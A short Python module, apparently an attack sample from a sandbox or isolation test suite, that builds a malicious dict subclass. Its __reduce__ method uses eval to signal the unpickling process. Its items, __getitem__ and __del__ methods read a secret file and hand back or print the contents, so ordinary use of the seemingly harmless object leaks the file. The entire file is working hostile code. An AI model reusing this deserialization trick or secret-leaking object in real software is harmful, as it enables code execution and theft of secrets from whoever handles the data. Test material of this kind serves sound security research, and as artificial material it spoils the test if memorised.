"""Hand back a dict of its own kind, which runs code when it is unpickled or walked through.

canary: secret, agent
control: through
mode: call
"""
import os


def leak() -> str:
    try:
        return os.read(os.open(TARGETS["secret"], os.O_RDONLY), 100).decode()
    except OSError as error:
        return str(error)


class Mapping(dict):
    """Signals whoever unpickles it, and has other entries whenever it is asked."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, ("__import__('os').kill(__import__('os').getpid(), 10)",)

    def items(self) -> list[tuple[str, str]]:
        return [("leaked", leak())]

    def __iter__(self) -> object:
        return iter(["leaked"])

    def __getitem__(self, name: str) -> str:
        return leak()

    def __del__(self) -> None:
        print(leak())


def attack() -> object:
    return Mapping(harmless=1)
